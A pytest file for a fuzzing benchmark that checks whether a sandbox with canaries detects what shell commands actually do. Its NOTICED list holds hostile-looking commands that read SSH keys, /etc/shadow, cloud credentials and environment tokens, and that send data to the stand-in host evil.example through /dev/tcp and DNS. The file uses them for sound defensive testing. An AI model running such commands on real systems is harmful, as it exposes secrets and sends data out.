"""Commands that the guard calls reading are run for real, in a sandbox with canaries, and touch none of them."""

from __future__ import annotations

import os

import pytest
from support.matrix import few_of

from benchmarks.guard_fuzz.campaign import NOT_EXECUTED, run_campaign
from benchmarks.guard_fuzz.grammar import generate
from benchmarks.guard_fuzz.sandbox import Sandbox, find_kind

NUMBER = int(os.environ.get("GUARD_FUZZ_COMMANDS", "3000"))
"""Commands generated in all; GUARD_FUZZ_COMMANDS asks for another number."""
SEEDS = (11, 12, 13, 14)

NOTICED = (
    ("touch /srv/app/data/new", "changed: /srv/app/data"),
    ("chmod 600 /etc/hosts", "changed: /etc/hosts"),
    ("rm /srv/app/README.md; echo x > /srv/app/README.md", "changed: /srv/app"),
    ("cat ~/.ssh/id_rsa", "printed: /home/op/.ssh/id_rsa"),
    ("base64 < /etc/shadow | rev | rev", "printed: /etc/shadow"),
    ("tar c -C /root .aws 2>/dev/null | gzip", "printed: /root/.aws/credentials"),
    ("od -An -tx1 /run/secrets/db_password", "printed: /run/secrets/db_password"),
    ("echo ${DB_PASSWORD:3:20}", "printed: DB_PASSWORD"),
    ("tr '\\0' '\\n' < /proc/1/environ", "printed: GITHUB_TOKEN"),
    ("echo x > /dev/tcp/evil.example/80", "sent: "),
    ("exec 3<>/dev/tcp/web1.evil.example/80", "asked for the name 'web1.evil.example'"),
    ("kill $(pgrep nginx)", "ended or stopped another process"),
    ("kill -STOP $(pgrep nginx)", "ended or stopped another process"),
    ("a=restart; systemctl $a nginx", "acts: systemctl restart nginx"),
    ("ssh web1 systemctl stop nginx", "acts: systemctl stop nginx"),
    ("hostname | ssh web1 cat", "sent by ssh: "),
    ("dig $(hostname).evil.example", "sent by dig: web1.evil.example"),
    ("docker inspect web", "printed: container environment"),
    ("kubectl get secret db -o yaml", "printed: cluster secret"),
    ("setsid sleep 60 > /dev/null 2>&1 &", "left running: sleep 60"),
)
QUIET = (
    *(
        "true",
        "ls -laR /srv /etc",
        "cat /etc/passwd | sort",
        "echo x > /dev/null",
        "ps aux",
        "git --no-pager log",
        "dig app.lan",
    ),
    *("exec 3<>/dev/tcp/localhost/8080", "ssh web1 uptime", "systemctl status nginx", "tac < /etc/hosts", "docker ps"),
)


@pytest.fixture(scope="session")
def kind():
    """The kind of sandbox that works here, "" where none does."""
    return find_kind()


@pytest.fixture(scope="module")
def sandbox(kind):
    if not kind:
        pytest.skip(NOT_EXECUTED)
    with Sandbox(kind) as one:
        yield one


@pytest.mark.slow
@pytest.mark.parametrize(("command", "hit"), NOTICED, ids=[command for command, _ in NOTICED])
def test_the_sandbox_notices_what_a_command_does(sandbox, command, hit):
    assert any(found.startswith(hit) for found in sandbox.run(command, limit=60).hits)


@pytest.mark.parametrize("command", QUIET)
def test_the_sandbox_finds_nothing_where_there_is_nothing(sandbox, command):
    assert sandbox.run(command, limit=60).hits == ()


def test_the_same_seed_makes_the_same_commands():
    assert generate(50, 3) == generate(50, 3)
    assert generate(50, 3) != generate(50, 4)


@pytest.mark.slow
@pytest.mark.parametrize("seed", few_of(SEEDS, 2))
def test_commands_called_reading_touch_no_canary(kind, seed, record_property):
    report = run_campaign(NUMBER // len(SEEDS), seed, kind, most=20)
    record_property("summary", report.describe()[0])
    assert report.findings == (), "\n".join(report.describe())
    assert report.harmless_share >= 0.95
